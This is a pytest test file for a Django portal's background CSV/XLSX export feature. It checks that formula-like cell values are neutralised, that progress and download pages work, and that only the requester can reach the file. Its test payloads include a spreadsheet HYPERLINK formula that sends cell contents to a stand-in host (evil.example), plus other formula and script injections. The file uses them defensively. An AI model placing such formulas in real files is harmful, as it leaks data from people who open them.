"""Background exports: a builder's rows written by a task to a file, formula-safe, with a
progress page and a download that only the person who asked for it can reach."""

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation

from kulturportal import background_exports, exports, threads
from kulturportal.background_exports import ExportRows, build_export, clean_up_exports
from kulturportal.models import ExportFile
from tests.factories import OfficialFactory

pytestmark = pytest.mark.django_db
Status = ExportFile.Status

ROWS = 2000
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klicka här")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "<script>alert('x')</script><b>fet</b>",
    "\tinskjuten tabb",
    "Åsa Öberg, Malmö",
]
HEADERS = ["Nummer", "Namn", "Text", "=Rubrik"]


def _expected(number: int) -> list:
    text = PAYLOADS[number % len(PAYLOADS)]
    return [number, f"Person {number}", exports.neutralise(text), None]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PDF_RENDER_IN_THREAD = False  # the task runs in-process (tests/conftest.py)


@pytest.fixture
def builder(monkeypatch):
    """A registered builder: ROWS rows of payloads, yielded one at a time; it notes how far
    the stored progress had come while it was still yielding."""
    calls = []
    progress_seen = {}

    def people(params):
        calls.append(params)
        rows = params.get("rows", ROWS)

        def generate():
            for number in range(rows):
                if number in (1, 1201):
                    export = ExportFile.objects.get(builder="test.people", status=Status.RUNNING)
                    progress_seen[number] = export.rows_done
                yield [number, f"Person {number}", PAYLOADS[number % len(PAYLOADS)], None]

        return ExportRows(
            headers=HEADERS, rows=generate(), total=rows, sheet_title="Personer och text"
        )

    monkeypatch.setitem(background_exports._builders, "test.people", people)
    people.calls = calls
    people.progress_seen = progress_seen
    return people


@pytest.fixture
def start(django_capture_on_commit_callbacks):
    """start() as a view calls it; the queued task runs when the "request" ends, unless
    run=False (then it stays pending, as with a busy worker)."""

    def run_start(user, *, fmt="xlsx", params=None, run=True, builder="test.people", **extra):
        with django_capture_on_commit_callbacks(execute=run):
            export = background_exports.start(
                user=user,
                builder=builder,
                params={"year": 2027} if params is None else params,
                fmt=fmt,
                filename=extra.get("filename", f"personer.{fmt}"),
                title=extra.get("title", "Personer <i>2027</i>"),
            )
        export.refresh_from_db()
        return export

    return run_start


def _progress(export):
    return reverse("export_progress", kwargs={"token": export.token})


def _download(export):
    return reverse("export_download", kwargs={"token": export.token})


# --- The file -----------------------------------------------------------------------------


def test_an_xlsx_export_holds_every_row_with_formulas_neutralised(official, builder, start):
    export = start(official, fmt="xlsx")

    assert export.status == Status.DONE and export.finished_at is not None
    assert export.rows_done == export.rows_total == ROWS and export.error == ""
    assert builder.calls == [{"year": 2027}]
    # Streamed: progress was stored every 500 rows while the builder was still yielding.
    assert builder.progress_seen == {1: 0, 1201: 1000}
    assert export.file.name.startswith("exports/") and "personer" not in export.file.name
    assert Path(export.file.path).is_file()

    workbook = openpyxl.load_workbook(export.file.path, read_only=True)
    sheet = workbook["Personer och text"]
    values = list(sheet.iter_rows(values_only=True))
    assert list(values[0]) == ["Nummer", "Namn", "Text", "'=Rubrik"]
    assert len(values) == ROWS + 1
    for number, row in enumerate(values[1:]):
        assert list(row) == _expected(number)
    assert values[1][2] == "'" + PAYLOADS[0] and values[2][2] == "'+1"
    assert values[4][2] == "'@SUM(A1:A9)" and values[5][2] == PAYLOADS[4]
    # Text cells are text, never formulas, whatever they start with.
    workbook = openpyxl.load_workbook(export.file.path)
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_a_csv_export_is_semicolon_utf8_with_a_bom_and_neutralised(official, builder, start):
    export = start(official, fmt="csv")
    assert export.status == Status.DONE and export.rows_done == ROWS

    content = Path(export.file.path).read_bytes()
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert rows[0] == ["Nummer", "Namn", "Text", "'=Rubrik"]
    assert len(rows) == ROWS + 1
    for number, row in enumerate(rows[1:]):
        expected = _expected(number)
        assert row == [str(number), expected[1], expected[2], ""]
    assert rows[6][2] == "'\tinskjuten tabb" and rows[7][2] == "Åsa Öberg, Malmö"


def test_the_builder_runs_in_the_language_of_the_person_who_asked(official, monkeypatch, start):
    seen = []

    def languages(params):
        seen.append(translation.get_language())
        return ExportRows(headers=["a"], rows=iter([["b"]]), total=None)

    monkeypatch.setitem(background_exports._builders, "test.languages", languages)
    official.preferred_language = "en"
    official.save(update_fields=["preferred_language"])
    export = start(official, builder="test.languages", fmt="csv")
    assert seen == ["en"]
    assert export.rows_done == export.rows_total == 1  # total unknown: counted


def test_the_existing_responses_still_write_the_same_way():
    response = exports.csv_response("a.csv", ["Namn"], [["=1+1"], ["Ö"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body == "\ufeffNamn\r\n'=1+1\r\nÖ\r\n"
    response = exports.xlsx_response("a.xlsx", ["Namn"], [["@x"]], sheet_title="Blad")
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    assert workbook["Blad"]["A2"].value == "'@x"


# --- Once, however often it is asked for ---------------------------------------------------


def test_the_same_export_on_its_way_is_not_started_twice(official, builder, start):
    first = start(official, run=False)
    again = start(official, run=False)
    assert again.pk == first.pk and again.token == first.token
    assert ExportFile.objects.count() == 1

    ExportFile.objects.filter(pk=first.pk).update(status=Status.RUNNING)
    assert start(official, run=False).pk == first.pk
    assert start(official, params={"year": 2028}, run=False).pk != first.pk
    assert start(official, fmt="csv", run=False).pk != first.pk
    assert start(OfficialFactory(), run=False).pk != first.pk
    assert builder.calls == []

    ExportFile.objects.filter(pk=first.pk).update(status=Status.DONE)
    fresh = start(official)
    assert fresh.pk != first.pk and fresh.status == Status.DONE


def test_a_duplicated_task_builds_once(official, builder, start):
    export = start(official, run=False)
    assert export.status == Status.PENDING
    build_export(export.pk)
    build_export(export.pk)
    assert len(builder.calls) == 1
    assert background_exports.build(export.pk) is False
    export.refresh_from_db()
    assert export.status == Status.DONE and export.rows_done == ROWS
    assert len(list(Path(export.file.path).parent.iterdir())) == 1


def test_without_a_worker_a_thread_builds_it(official, builder, start, settings, monkeypatch):
    """The embedded default (PDF_RENDER_IN_THREAD): the request starts a thread, as for PDFs."""
    started = []

    class InPlace:
        def __init__(self, target, name, daemon):
            started.append(name)
            self.target = target

        def start(self):
            self.target()

    settings.PDF_RENDER_IN_THREAD = True
    monkeypatch.setattr(threads.threading, "Thread", InPlace)
    monkeypatch.setattr("django.db.close_old_connections", lambda: None)
    monkeypatch.setattr("celery.Task.apply_async", lambda *a, **k: pytest.fail("queued to Celery"))
    export = start(official)
    assert started == [f"build_export-{export.pk}"]
    assert export.status == Status.DONE and export.rows_done == ROWS


def test_a_broker_that_is_down_does_not_break_the_request(official, builder, start, monkeypatch):
    def unreachable(*args, **kwargs):
        raise ConnectionRefusedError("Redis is down")

    monkeypatch.setattr(build_export, "delay", unreachable)
    export = start(official)
    assert export.status == Status.FAILED and "not queued" in export.error.lower()
    assert builder.calls == []


# --- Failure and trying again --------------------------------------------------------------


def test_a_failing_builder_fails_the_export_and_trying_again_works(
    client, official, monkeypatch, start, django_capture_on_commit_callbacks
):
    attempts = []

    def flaky(params):
        attempts.append(params)
        if len(attempts) == 1:
            raise RuntimeError("databasen svarade inte")

        def rows():
            yield ["en rad"]
            if len(attempts) == 2:
                raise ValueError("halvvägs")
            yield ["två rader"]

        return ExportRows(headers=["Kolumn"], rows=rows(), total=2)

    monkeypatch.setitem(background_exports._builders, "test.flaky", flaky)
    export = start(official, builder="test.flaky", fmt="xlsx")  # the task raises nothing
    assert export.status == Status.FAILED and not export.file
    assert "RuntimeError: databasen svarade inte" in export.error

    client.force_login(official)
    response = client.get(_progress(export))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Exporten kunde inte skapas" in html and 'method="post"' in html
    assert "databasen" not in html  # the error is for the logs
    assert 'http-equiv="refresh"' not in html

    # Failing half-way through the rows: no file is left behind.
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(_progress(export))
    assert response.status_code == 302 and response["Location"] == _progress(export)
    export.refresh_from_db()
    assert export.status == Status.FAILED and "ValueError: halvvägs" in export.error
    assert not export.file
    media = Path(export.file.storage.location)
    assert not media.exists() or not [p for p in media.rglob("*") if p.is_file()]

    with django_capture_on_commit_callbacks(execute=True):
        client.post(_progress(export))
    export.refresh_from_db()
    assert export.status == Status.DONE and export.rows_done == 2 and export.error == ""
    assert len(attempts) == 3
    assert "Exporten är klar" in client.get(_progress(export)).content.decode()


def test_trying_again_is_refused_while_it_is_on_its_way(client, official, builder, start):
    export = start(official, run=False)
    client.force_login(official)
    assert client.post(_progress(export)).status_code == 302
    export.refresh_from_db()
    assert export.status == Status.PENDING and builder.calls == []
    assert background_exports.restart(export) is False


def test_a_lost_export_counts_as_failed_and_can_be_tried_again(
    client, official, builder, start, django_capture_on_commit_callbacks
):
    export = start(official, run=False)
    ExportFile.objects.filter(pk=export.pk).update(
        status=Status.RUNNING,
        created_at=timezone.now() - background_exports.STALE_AFTER - timedelta(minutes=1),
    )
    client.force_login(official)
    assert "Exporten kunde inte skapas" in client.get(_progress(export)).content.decode()
    assert start(official, run=False).pk != export.pk  # a stale one is not reused
    with django_capture_on_commit_callbacks(execute=True):
        client.post(_progress(export))
    export.refresh_from_db()
    assert export.status == Status.DONE and len(builder.calls) == 1


# --- The pages --------------------------------------------------------------------------------


def test_the_progress_page_shows_the_counts_and_refreshes_itself(
    client, official, start, monkeypatch
):
    monkeypatch.setitem(
        background_exports._builders, "test.never", lambda params: ExportRows(["a"], [])
    )
    export = start(official, builder="test.never", run=False)
    client.force_login(official)

    response = client.get(_progress(export))
    html = response.content.decode()
    assert response.status_code == 200
    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
    assert "Exporten skapas…" in html and "väntar på att starta" in html
    assert '<meta http-equiv="refresh" content="2">' in html
    assert f'<a href="{_progress(export)}">Uppdatera sidan</a>' in html
    assert "Personer &lt;i&gt;2027&lt;/i&gt;" in html and "<i>2027" not in html

    ExportFile.objects.filter(pk=export.pk).update(
        status=Status.RUNNING, rows_done=1500, rows_total=12000
    )
    html = client.get(_progress(export)).content.decode()
    assert '<p role="status">1\xa0500 av 12\xa0000 rader klara.</p>' in html

    ExportFile.objects.filter(pk=export.pk).update(rows_total=None)
    assert "1\xa0500 rader klara." in client.get(_progress(export)).content.decode()


def test_a_done_export_links_to_its_file_with_size_and_rows(client, official, builder, start):
    export = start(official, fmt="xlsx", filename="personer-2027.xlsx")
    client.force_login(official)
    response = client.get(_progress(export))
    html = response.content.decode()
    assert "Exporten är klar" in html and 'http-equiv="refresh"' not in html
    assert f'<a href="{_download(export)}">Ladda ner personer-2027.xlsx</a>' in html
    assert re.search(r"\(XLSX, \d+,\d\xa0kB, 2\xa0000 rader\)", html)
    assert "7 dagar" in html

    response = client.get(_download(export))
    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == 'attachment; filename="personer-2027.xlsx"'
    assert "no-store" in response["Cache-Control"]
    body = b"".join(response.streaming_content)
    assert body == Path(export.file.path).read_bytes()

    csv_export = start(official, fmt="csv", filename="personer")
    response = client.get(_download(csv_export))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="personer.csv"'


def test_a_download_before_it_is_done_is_not_found(client, official, builder, start):
    export = start(official, run=False)
    client.force_login(official)
    assert client.get(_download(export)).status_code == 404


def test_a_done_export_whose_file_is_gone_can_be_made_again(
    client, official, builder, start, django_capture_on_commit_callbacks
):
    export = start(official)
    Path(export.file.path).unlink()
    client.force_login(official)
    assert client.get(_download(export)).status_code == 404
    assert "Exporten kunde inte skapas" in client.get(_progress(export)).content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        client.post(_progress(export))
    export.refresh_from_db()
    assert export.status == Status.DONE and Path(export.file.path).is_file()


def test_respond_sends_the_person_to_the_progress_page(rf, official, builder, start):
    export = start(official, run=False)
    response = background_exports.respond(rf.get("/"), export)
    assert response.status_code == 302 and response["Location"] == f"/exporter/{export.token}/"
    assert len(export.token) == 43


# --- Only for the person who asked ----------------------------------------------------------


def test_nobody_else_reaches_an_export(client, official, builder, start, nobody):
    export = start(official)
    for other in (OfficialFactory(is_superuser=True), nobody):
        client.force_login(other)
        assert client.get(_progress(export)).status_code == 404
        assert client.post(_progress(export)).status_code == 404
        assert client.get(_download(export)).status_code == 404
    client.logout()
    login = reverse("account_login")
    for url in (_progress(export), _download(export)):
        response = client.get(url)
        assert response.status_code == 302 and response["Location"].startswith(login)
    client.force_login(official)
    assert client.get(_download(export)).status_code == 200
    assert client.post(_download(export)).status_code == 405


def test_an_unknown_token_is_not_found(client, official):
    client.force_login(official)
    assert client.get("/exporter/finns-inte/").status_code == 404
    assert client.get("/exporter/finns-inte/fil/").status_code == 404


# --- Registry and housekeeping --------------------------------------------------------------


def test_a_name_is_registered_once_and_an_unknown_one_refused(official, builder):
    background_exports.register("test.people", builder)  # the same builder again: fine
    with pytest.raises(ValueError, match="already registered"):
        background_exports.register("test.people", lambda params: None)
    with pytest.raises(LookupError):
        background_exports.start(
            user=official, builder="test.missing", params={}, fmt="csv", filename="x", title="x"
        )
    with pytest.raises(ValueError, match="format"):
        background_exports.start(
            user=official, builder="test.people", params={}, fmt="pdf", filename="x", title="x"
        )


def test_old_exports_are_cleaned_up_with_their_files(official, builder, start):
    old = start(official)
    recent = start(official, fmt="csv")
    lost = start(official, params={"year": 2030}, run=False)
    ExportFile.objects.filter(pk=old.pk).update(
        created_at=timezone.now() - background_exports.KEEP_FOR - timedelta(hours=1)
    )
    ExportFile.objects.filter(pk=lost.pk).update(
        status=Status.RUNNING,
        created_at=timezone.now() - background_exports.STALE_AFTER - timedelta(minutes=1),
    )
    assert clean_up_exports() == 1
    assert not ExportFile.objects.filter(pk=old.pk).exists()
    assert not Path(old.file.path).exists()
    assert Path(recent.file.path).is_file()
    lost.refresh_from_db()
    assert lost.status == Status.FAILED


def test_the_cleanup_runs_on_the_beat(settings):
    tasks = {entry["task"] for entry in settings.CELERY_BEAT_SCHEDULE.values()}
    assert "kulturportal.background_exports.clean_up_exports" in tasks
